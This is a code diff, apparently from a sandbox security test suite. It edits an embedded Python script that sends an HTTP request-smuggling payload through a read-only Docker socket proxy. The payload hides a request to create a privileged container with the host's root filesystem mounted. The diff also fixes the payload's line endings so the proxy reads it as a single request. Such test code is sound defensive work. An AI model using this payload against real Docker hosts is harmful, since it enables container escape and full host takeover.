@@ -674,21 +674,25 @@ def phase(sb: Sandbox, image: str, name: str, seconds: float, start: Callable[[]
 SMUGGLE = r"""
 import json, socket, sys
 def ask(data):
-    s = socket.socket(socket.AF_UNIX); s.settimeout(10)
-    s.connect("/run/swarm-placement/docker-read.sock"); s.sendall(data)
-    got = b""
-    while True:
-        chunk = s.recv(65536)
-        if not chunk:
-            break
-        got += chunk
-    s.close()
-    return got.split(b"\r\n")[0].decode()
+    try:
+        s = socket.socket(socket.AF_UNIX); s.settimeout(30)
+        s.connect("/run/swarm-placement/docker-read.sock"); s.sendall(data)
+        got = b""
+        while True:
+            chunk = s.recv(65536)
+            if not chunk:
+                break
+            got += chunk
+        s.close()
+        return got.split(b"\r\n")[0].decode()
+    except OSError as exc:
+        return f"{type(exc).__name__}: {exc}"
 body = json.dumps({"Image": sys.argv[1], "Cmd": ["true"],
                    "HostConfig": {"Privileged": True, "Binds": ["/:/host"]}}).encode()
+# The head ends (CRLF CRLF) after the body, so that the proxy reads it all as one head.
 smuggled = (b"GET /v1.41/info HTTP/1.1\r\nX: a\n\nPOST /v1.41/containers/create"
             b"?name=smuggled-by-attack HTTP/1.1\nHost: x\nContent-Type: application/json\n"
-            b"Content-Length: " + str(len(body)).encode() + b"\n\n" + body)
+            b"Content-Length: " + str(len(body)).encode() + b"\n\n" + body + b"\r\n\r\n")
 print(json.dumps({"allowed_read": ask(b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n"),
                   "smuggled": ask(smuggled)}))
 """
